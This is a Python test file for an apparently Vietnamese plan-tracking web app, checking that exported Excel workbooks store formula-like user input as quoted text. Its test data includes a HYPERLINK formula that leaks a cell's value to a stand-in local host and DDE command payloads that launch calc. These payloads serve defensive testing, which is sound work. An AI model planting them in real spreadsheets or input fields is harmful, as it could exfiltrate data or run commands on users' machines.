"""Finding 2: what a person typed never becomes a formula in a workbook dondoc writes (core/xlsx.put).

Each workbook is downloaded the way a user gets it, after input that starts like a formula, then opened twice: its
sheets' XML must hold no formula element at all (Excel and LibreOffice evaluate only those), and openpyxl must read
every injected text back exactly as typed, marked as text (quote prefix). Numbers stay numbers."""

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from dondoc.core.xlsx import FORMULA_LEADS, put
from dondoc.orgs.models import Agency
from dondoc.targets.actions import do_add_target, do_enter_actual
from dondoc.tracking import actions
from tests.tracking.conftest import lead, partner, people, plan, today  # noqa: F401  (fixtures)

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&B2,"Xem minh chứng")'


def formulas_in(content: bytes) -> list[str]:
    """Every formula element of every sheet of the .xlsx."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f[ >/][^<]*", z.read(name).decode())
    return found


def typed_cells(content: bytes) -> dict[str, object]:
    """{text: cell} for every text cell of the workbook."""
    wb = load_workbook(io.BytesIO(content))
    cells = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells[cell.value] = cell
    return cells


def assert_text(content: bytes, *typed: str) -> dict:
    assert formulas_in(content) == []
    cells = typed_cells(content)
    for text in typed:
        matches = [c for value, c in cells.items() if text in value]
        assert matches, f"{text!r} is not in the workbook"
    for value, cell in cells.items():
        if value.startswith(FORMULA_LEADS):
            assert cell.quotePrefix, f"{cell.coordinate} {value!r} has no quote prefix"
    return cells


@pytest.mark.nodb
@pytest.mark.parametrize("value", [LEAK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "= 2"])
def test_put_writes_what_was_typed_as_text(value):
    wb = Workbook()
    put(wb.active, 1, 1, value)
    put(wb.active, 1, 2, 42)
    put(wb.active, 1, 3, 0.5)
    put(wb.active, 1, 4, dt.date(2024, 10, 15))
    out = io.BytesIO()
    wb.save(out)
    assert formulas_in(out.getvalue()) == []
    ws = load_workbook(out).active
    assert ws["A1"].value == value and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["B1"].value == 42 and ws["B1"].data_type == "n"
    assert ws["C1"].value == 0.5 and ws["C1"].data_type == "n"
    assert ws["D1"].value.date() == dt.date(2024, 10, 15) and ws["D1"].is_date


@pytest.mark.nodb
def test_a_formula_is_found_when_one_is_written():
    """The scan above would see a formula: openpyxl writes one for a plain "=..." string."""
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    out = io.BytesIO()
    wb.save(out)
    assert formulas_in(out.getvalue())


@pytest.fixture
def injected(people, lead, plan, settings):
    """A focal point's progress, a coordinator's task text, an administrator's agency name and a target "= 2"."""
    settings.DEMO_TODAY = dt.date(2024, 10, 5)
    actions.do_post_update(lead, people["lead_focal"], text=LEAK, percent=40)
    task = lead.task
    task.refresh_from_db()
    actions.do_amend_task(task, people["coordinator"], version=task.version, text="+cmd|' /C calc'!A0 nhiệm vụ")
    Agency.objects.filter(pk=lead.agency_id).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    target = do_add_target(task, people["coordinator"], op="=", value="2", unit="km", text="-1+1 km cáp quang")
    do_enter_actual(target, people["lead_focal"], period="2024-Q3", value="1", unit="km", note="=1+1")
    return plan


def _get(client, user, url):
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, url
    return response.content


def test_consolidated_appendix(client, people, injected):
    content = _get(client, people["coordinator"], f"/bao-cao/ke-hoach/{injected.pk}/tong-hop.xlsx?ky=2024")
    cells = assert_text(content, LEAK, "+cmd|' /C calc'!A0 nhiệm vụ", "@SUM(1+1)", "-1+1 km cáp quang", "= 2")
    assert cells[LEAK].value == LEAK


def test_consolidated_appendix_over_the_api(client, people, injected):
    content = _get(client, people["viewer"], f"/api/v1/plans/{injected.pk}/consolidated.xlsx?period=2024")
    assert_text(content, LEAK, "= 2")


def test_task_list_workbooks(client, people, injected, partner):
    # The task list prints the plan's own names while the assignments are what they give; once the coordinator
    # gives the task to another agency too, it prints the agencies' names, the administrator's text among them.
    task = injected.tasks.get(pk=partner.task_id)
    actions.do_set_agency(task, people["coordinator"], agency=partner.agency, role="lead", add=True)
    for url in (f"/ke-hoach/{injected.pk}/danh-muc.xlsx", f"/api/v1/plans/{injected.pk}/tasks.xlsx"):
        assert_text(_get(client, people["lead_focal"], url), "+cmd|' /C calc'!A0 nhiệm vụ", "@SUM(1+1)")


def test_ranking_workbook(client, people, injected):
    content = _get(client, people["leader"], "/tong-hop/xep-hang.xlsx?tu=2024-01-01&den=2024-12-31")
    cells = assert_text(content, "@SUM(1+1)*cmd|' /C calc'!A0")
    ws = load_workbook(io.BytesIO(content)).active
    row = cells["@SUM(1+1)*cmd|' /C calc'!A0"].row
    assert ws.cell(row=row, column=1).data_type == "n"  # the rank stays a number


def test_draft_task_text_in_the_task_list(client, people, orgs):
    from dondoc.plans import actions as plan_actions
    from dondoc.plans import draft as plan_draft
    from tests.plans.conftest import make_structure

    draft = plan_actions.import_structure(make_structure(), user=people["coordinator"])
    task = draft.tasks.order_by("order").first()
    plan_draft.do_edit_draft_task(task, version=task.version, changes={"text": LEAK}, user=people["coordinator"])
    assert_text(_get(client, people["coordinator"], f"/ke-hoach/{draft.pk}/danh-muc.xlsx"), LEAK)
